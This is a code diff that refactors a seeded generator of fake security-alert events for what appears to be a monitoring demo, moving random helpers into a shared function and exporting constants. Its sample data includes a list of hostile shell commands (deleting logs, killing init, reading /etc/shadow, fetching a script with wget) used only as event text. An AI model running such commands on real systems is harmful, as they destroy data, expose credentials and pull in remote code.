@@ -17,6 +17,18 @@ export function prng(seed: number): () => number {
 
 type Json = Record<string, unknown>;
 
+/** The helpers of a seeded generator: a number in [0, 1), an item of a list, `length` hex digits. */
+export function seeded(seed: number) {
+  const random = prng(seed);
+  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)];
+  const hex = (length: number): string => {
+    let out = '';
+    for (let i = 0; i < length; i++) out += Math.floor(random() * 16).toString(16);
+    return out;
+  };
+  return { random, pick, hex };
+}
+
 const TYPES = [
   'VaultViaIrregularIp',
   'InteractiveLogonWithServiceAccount',
@@ -28,19 +40,13 @@ const TYPES = [
 const USERS = ['administrator', 'svc_backup', 'root', 'oracle', 'svc_sql', 'jdoe', 'admin42'];
 const HOSTS = ['dc01', 'db02', 'web03', 'app04', 'files05', 'jump06'];
 const DOMAIN = 'cybr.com';
-const CLOSE_REASONS = ['HANDLED', 'NOTREAL', 'OTHER', 'NONE'];
+export const CLOSE_REASONS = ['HANDLED', 'NOTREAL', 'OTHER', 'NONE'];
 const COMMANDS = ['rm -rf /var/log', 'kill -9 1', 'cat /etc/shadow', 'wget http://203.0.113.9/x.sh'];
 /** 2026-01-01T00:00:00Z: demo times count back from here, so they do not depend on the clock. */
-const NEWEST = 1_767_225_600_000;
+export const NEWEST = 1_767_225_600_000;
 
 export function createDemoEvents(count = 240, seed = 20_200_719): Json[] {
-  const random = prng(seed);
-  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)];
-  const hex = (length: number): string => {
-    let out = '';
-    for (let i = 0; i < length; i++) out += Math.floor(random() * 16).toString(16);
-    return out;
-  };
+  const { random, pick, hex } = seeded(seed);
   const ip = (): string => `10.${1 + Math.floor(random() * 250)}.${Math.floor(random() * 255)}.${1 + Math.floor(random() * 250)}`;
   const address = (): Json => {
     const host = pick(HOSTS);
